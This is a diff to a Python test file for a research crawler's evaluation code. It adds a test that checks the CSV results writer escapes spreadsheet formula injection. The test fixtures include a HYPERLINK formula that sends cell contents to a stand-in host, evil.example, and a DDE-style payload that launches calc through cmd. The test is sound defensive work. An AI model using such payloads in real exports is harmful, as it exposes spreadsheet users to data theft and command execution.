@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 from research_crawler.eval.judges import JudgeVerdict
@@ -92,3 +93,16 @@ def test_single_values_have_no_spread_and_results_round_trip(tmp_path: Path) -> 
     assert text.startswith("# Evaluation of preprints") and "Ground truth" not in text
     csv_lines = (tmp_path / "results.csv").read_text().splitlines()
     assert len(csv_lines) == 2 and csv_lines[1].startswith("arxiv/0,arxiv,general,query 0,,1,pass,because,")
+
+
+def test_a_judges_reasoning_or_a_query_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
+    result = _paper_result()
+    result.queries = [q for q in result.queries if q.query_id == "arxiv/0"]
+    result.queries[0].query = '=HYPERLINK("http://evil.example/?"&A1, "open")'
+    result.queries[0].verdicts["groundedness"].reasoning = "@SUM(1+1)*cmd|' /C calc'!A0\x1b[2J"
+    write_results(result, tmp_path)
+    with (tmp_path / "results.csv").open(newline="", encoding="utf-8") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["query"] == "'" + result.queries[0].query  # shown by a spreadsheet, never run
+    assert row["groundedness_reasoning"] == "'@SUM(1+1)*cmd|' /C calc'!A0[2J"
+    assert row["answer_relevance"] == "1", "numbers stay numbers"
